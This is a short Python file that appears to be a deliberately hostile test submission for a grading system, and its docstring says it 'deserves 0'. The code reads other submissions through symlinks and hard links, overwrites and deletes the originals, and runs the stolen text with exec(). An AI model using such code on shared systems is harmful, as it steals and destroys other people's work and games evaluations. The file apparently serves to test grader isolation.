"""Copies the answers of others, by path, by glob and through links, and spoils their files.

Deserves 0.
"""
import glob
import os

TEXT = ""
for path in ["/srv/submissions/a_honest.py", *glob.glob("/srv/submissions/*"), *glob.glob("../*"), *glob.glob("/tmp/*/*")]:
    try:
        os.symlink(path, "/tmp/link")
        TEXT += open("/tmp/link").read()
    except OSError:
        pass
    try:
        os.link(path, "/tmp/hard")
        TEXT += open("/tmp/hard").read()
    except OSError:
        pass
    try:
        open(path, "w").write("def center(): pass")
        os.unlink(path)
    except OSError:
        pass
    for name in ("/tmp/link", "/tmp/hard"):
        if os.path.lexists(name):
            os.unlink(name)
exec(TEXT)


def spread(x):
    return TEXT
